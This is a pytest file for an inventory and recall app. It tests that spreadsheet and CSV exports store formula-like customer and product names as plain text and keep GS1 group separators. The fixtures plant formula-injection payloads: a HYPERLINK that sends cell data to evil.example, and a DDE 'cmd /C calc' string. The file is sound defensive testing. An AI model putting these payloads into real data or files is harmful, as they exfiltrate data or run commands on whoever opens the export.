"""Hostile stored text in every download: a customer named like a spreadsheet formula, a product named
like one, and a supplier lot code holding the GS1 group separator a wedge scanner sends (ASCII 29).
Each export answers 200 and opens; no cell is a formula; the name reads as the text it is; the separator
shows as ␝, as on the lot page."""

from __future__ import annotations

import csv
import io
import zipfile
from dataclasses import dataclass
from decimal import Decimal, InvalidOperation
from typing import Any

import pytest
from flask.testing import FlaskClient
from openpyxl import load_workbook
from sqlalchemy.orm import Session

from app.models import Role
from tests.helpers.api import TODAY, Api
from tests.helpers.pages import Browser, lot_id, user
from tests.helpers.recall_case import Case, ship
from tests.helpers.recall_case import build as build_case

EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
GS = "\x1d"
DAY = TODAY.isoformat()
SEPARATOR_HTML = '<span class="gs" title="GS1 group separator">\u241d</span>'


@dataclass
class Hostile:
    case: Case
    customer: int
    scanned_lot: int
    """RASP lot received through the API with supplier lot code RB<GS>7731-B."""
    evil_lot: int
    """5 kg of the product named EVIL, 2 kg of it written off."""


@pytest.fixture
def hostile(api: Api, site: dict[str, Any], session: Session) -> Hostile:
    case = build_case(api, site, session)
    r = api.post("/customers", {"name": EVIL, "address": "@SUM(1+1)*cmd|' /C calc'!A0", "phone": "+44 1632 960009"})
    assert r.status_code == 201, r.json
    customer = r.json["id"]
    ship(api, customer, "JAM-RASP", [(case.j1, "KITCHEN", "5")])
    # What a wedge scanner types: FNC1 first, the separator inside the supplier's lot, a terminating GS.
    r = api.post("/receipts", {"supplier_id": site["supplier"], "reference": f"DN-7{GS}", "lines": [
        {"sku": "RASP", "quantity": "10", "location": "COLD-01", "lot_code": "R9",
         "supplier_lot_code": f"{GS}RB{GS}7731-B{GS}", "unit_cost": "4"}]})
    assert r.status_code == 201, r.json
    scanned = r.json["lines"][0]["lot_id"]
    r = api.post("/products", {"sku": "EVIL", "name": EVIL, "kind": "material", "unit": "kg"})
    assert r.status_code == 201, r.json
    r = api.post("/receipts", {"supplier_id": site["supplier"], "lines": [
        {"sku": "EVIL", "quantity": "5", "location": "COLD-01", "lot_code": "E1", "unit_cost": "2"}]})
    assert r.status_code == 201, r.json
    evil_lot = r.json["lines"][0]["lot_id"]
    r = api.post("/write-offs", {"lot_id": evil_lot, "location": "COLD-01", "quantity": "2", "reason": "damaged"})
    assert r.status_code == 201, r.json
    return Hostile(case=case, customer=customer, scanned_lot=scanned, evil_lot=evil_lot)


def _ok(r: Any) -> bytes:
    assert r.status_code == 200, r.get_data(as_text=True)[:500]
    data: bytes = r.data
    return data


def xlsx_text_cells(data: bytes) -> list[str]:
    """Every text cell of every sheet, after proving the workbook opens and holds no formula."""
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name), f"a formula in {name}"
    book = load_workbook(io.BytesIO(data))
    texts = []
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert cell.data_type == "s"
                    texts.append(cell.value)
    return texts


def csv_cells(data: bytes) -> list[str]:
    return [c for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")) for c in row]


def _no_formula_in_csv(cells: list[str]) -> None:
    # A field a spreadsheet would run starts with = + - @ (or tab, CR); numbers like -5 are numbers.
    risky = [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and not _number(c))]
    assert risky == []


def _number(text: str) -> bool:
    try:
        Decimal(text)
    except InvalidOperation:
        return False
    return True


def test_the_separator_is_kept_inside_the_supplier_lot_and_dropped_at_its_ends(api: Api, hostile: Hostile) -> None:
    lot = api.get(f"/lots/{hostile.scanned_lot}").json
    assert lot["supplier_lot_code"] == f"RB{GS}7731-B"


def test_fsma204_xlsx_and_csv_keep_the_formula_as_text_and_show_the_separator(api: Api, hostile: Hostile) -> None:
    texts = xlsx_text_cells(_ok(api.get(f"/exports/fsma204.xlsx?from={DAY}&to={DAY}")))
    assert any(t.startswith(EVIL) for t in texts), "the customer's name is there, as text"
    assert "RB\u241d7731-B" in texts, "the traceability lot code shows the separator"
    assert any(t.startswith(EVIL + " (EVIL)") for t in texts), "the product's name too"

    cells = csv_cells(_ok(api.get(f"/exports/fsma204.csv?from={DAY}&to={DAY}")))
    _no_formula_in_csv(cells)
    assert any(c.startswith("'" + EVIL) for c in cells)
    assert "RB\u241d7731-B" in cells


def test_a_lots_regulator_files_keep_a_formula_like_customer_name_as_text(api: Api, hostile: Hostile) -> None:
    """`=cmd|...` as a customer's name and address, in the FSMA file of a lot's trace and its EPCIS."""
    lot = hostile.case.j1
    texts = xlsx_text_cells(_ok(api.get(f"/exports/fsma204.xlsx?lot={lot}")))
    assert EVIL + ", phone +44 1632 960009, @SUM(1+1)*cmd|' /C calc'!A0" in texts
    cells = csv_cells(_ok(api.get(f"/exports/fsma204.csv?lot={lot}")))
    _no_formula_in_csv(cells)
    assert "'" + EVIL + ", phone +44 1632 960009, @SUM(1+1)*cmd|' /C calc'!A0" in cells
    assert _ok(api.get(f"/exports/epcis.json?lot={lot}")).decode().count("/id/customer/") >= 4


def test_recall_and_drill_files_keep_the_formula_as_text(api: Api, hostile: Hostile) -> None:
    case = hostile.case
    drill = api.post("/drills", {"lots": [{"lot_id": case.j1}, {"lot_id": hostile.scanned_lot}],
                                 "reason": "glass"})
    assert drill.status_code == 201, drill.json
    texts = xlsx_text_cells(_ok(api.get(f"/drills/{drill.json['id']}/export.xlsx")))
    assert EVIL in texts and "RB\u241d7731-B" in texts
    assert _ok(api.get(f"/drills/{drill.json['id']}/export.pdf")).startswith(b"%PDF")

    r = api.post("/recalls", {"lots": [{"lot_id": case.j1}, {"lot_id": hostile.scanned_lot}], "reason": "glass"})
    assert r.status_code == 201, r.json
    rid = r.json["id"]
    r = api.post(f"/recalls/{rid}/notifications", {"customer_id": hostile.customer, "method": "phone",
                                                    "response": "-1 jar left; =1+1"})
    assert r.status_code == 201, r.json
    texts = xlsx_text_cells(_ok(api.get(f"/recalls/{rid}/export.xlsx")))
    assert EVIL in texts and "@SUM(1+1)*cmd|' /C calc'!A0" in texts and "-1 jar left; =1+1" in texts
    cells = csv_cells(_ok(api.get(f"/recalls/{rid}/export.csv")))
    _no_formula_in_csv(cells)
    assert "'" + EVIL in cells and "'@SUM(1+1)*cmd|' /C calc'!A0" in cells and "RB\u241d7731-B" in cells
    assert _ok(api.get(f"/recalls/{rid}/export.pdf")).startswith(b"%PDF")


def test_the_waste_report_keeps_the_formula_as_text(client: FlaskClient, session: Session,
                                                    hostile: Hostile) -> None:
    manager = user(client, session, "mia", Role.MANAGER)
    r = manager.client.get(f"/reports/waste.csv?from={DAY}&to={DAY}")
    cells = csv_cells(_ok(r))
    _no_formula_in_csv(cells)
    assert "'" + EVIL in cells
    texts = xlsx_text_cells(_ok(manager.client.get(f"/reports/waste.xlsx?from={DAY}&to={DAY}")))
    assert EVIL in texts


def test_a_separator_typed_into_the_receipt_page_shows_on_the_lot_page_and_in_the_fsma_file(
        client: FlaskClient, session: Session, api: Api, site: dict[str, Any]) -> None:
    clerk = user(client, session, "otto", Role.OPERATOR)
    page = clerk.submit(clerk.get("/receipts/new"), {
        "supplier_id": str(site["supplier"]), "lines.0.sku": "RASP", "lines.0.quantity": "12",
        "lines.0.lot_code": "R7", "lines.0.supplier_lot_code": f"{GS}CD{GS}42{GS}"})
    assert page.status == 200, page.alerts
    assert f"CD{SEPARATOR_HTML}42" in page.html, "the receipt shows the separator"
    lot = clerk.get(f"/lots/{lot_id(session, 'R7')}")
    assert f"CD{SEPARATOR_HTML}42" in lot.html
    texts = xlsx_text_cells(_ok(api.get(f"/exports/fsma204.xlsx?from={DAY}&to={DAY}")))
    assert "CD\u241d42" in texts


def test_the_lot_page_and_the_label_show_a_separator_booked_through_the_api(
        client: FlaskClient, session: Session, api: Api, hostile: Hostile) -> None:
    viewer: Browser = user(client, session, "vic", Role.VIEWER)
    page = viewer.get(f"/lots/{hostile.scanned_lot}")
    assert f"RB{SEPARATOR_HTML}7731-B" in page.html
    zpl = _ok(api.get(f"/labels/lots/{hostile.scanned_lot}.zpl")).decode()
    # Printer fonts have no ␝: the label prints the separator as GS1's own documents write it.
    assert "their lot" in zpl and "^FDRB<GS>7731-B^FS" in zpl
